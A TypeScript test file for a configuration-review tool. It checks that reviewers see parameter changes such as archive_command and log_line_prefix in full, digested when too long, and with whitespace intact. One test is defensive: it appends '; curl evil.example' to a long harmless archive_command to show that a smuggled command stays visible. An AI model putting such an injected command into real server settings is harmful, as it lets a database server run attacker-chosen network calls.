import { describe, expect, it } from "vitest";
import { check } from "../../src/flows/request/check.ts";
import type { CheckResult } from "../../src/model/results.ts";
import type { Notice } from "../../src/model/notice.ts";
import { renderNotice } from "../../src/report/render-notice.ts";
import { openTrunkShop, prod, propose } from "../support/trunk.ts";

const options = { secretParameters: new Set<string>(), target: "main" };

/** What reviewers are shown of a change from one value of a text parameter to another. */
async function show(
  parameter: string,
  before: string,
  after: string,
): Promise<Notice & { readonly result: CheckResult }> {
  const shop = await openTrunkShop();
  const set = (value: string): Readonly<Record<string, string>> =>
    prod(`fsync: on, work_mem: 64MB, ${parameter}: ${JSON.stringify(value)}`);
  await shop.push("main", set(before));
  await propose(shop, "other", set(after));
  const result = await check(shop.as("lin"), { request: "other", acceptedThresholds: [] });
  return { ...renderNotice(result, options), result };
}

/** The cells of the row of a parameter, in which nothing is encoded that these tests use. */
function sidesOf(text: string, parameter: string): readonly string[] {
  const row = text.split("\n").find((line) => line.startsWith("|") && line.includes(`<code>${parameter}</code>`)) ?? "";
  return [...row.matchAll(/<code>(?<cell>.*?)<\/code>/gu)].slice(2, 4).map(({ groups }) => groups?.["cell"] ?? "");
}

describe("what reviewers see of a value", () => {
  it("is all of it, however long: nothing hides behind a harmless beginning", async () => {
    const harmless = `cp %p /archive/${"orders/".repeat(60)}%f`;
    const { comment } = await show("archive_command", harmless, `${harmless} ; curl evil.example`);
    const [before = "", after = ""] = sidesOf(comment, "archive_command");
    expect(before).not.toBe(after);
    expect(after).toContain("curl evil");
  });

  it("is told to be elsewhere where the comment has no room for it, and the digest is over all of it", async () => {
    const long = "&".repeat(8000);
    const one = await show("archive_command", "true", `true ${long}a${long.slice(0, 100)}`);
    const other = await show("archive_command", "true", `true ${long}b${long.slice(0, 100)}`);
    for (const { comment, details } of [one, other]) {
      expect([comment, details].map((text) => text.length < 60_000)).toEqual([true, true]);
      expect(comment).toContain("left out here; all are in the details of the check run");
    }
    expect(one.digest).not.toBe(other.digest);
  });

  it("shows blanks that make a difference", async () => {
    for (const [before, after] of [
      ["%m", "%m "],
      ["%m", " %m"],
      ["%m %p", "%m  %p"],
    ] as const) {
      const { comment } = await show("log_line_prefix", before, after);
      const sides = sidesOf(comment, "log_line_prefix").map((side) => side.replaceAll(/ +/gu, " ").trim());
      expect(sides[0]).not.toBe(sides[1]);
    }
  });
});
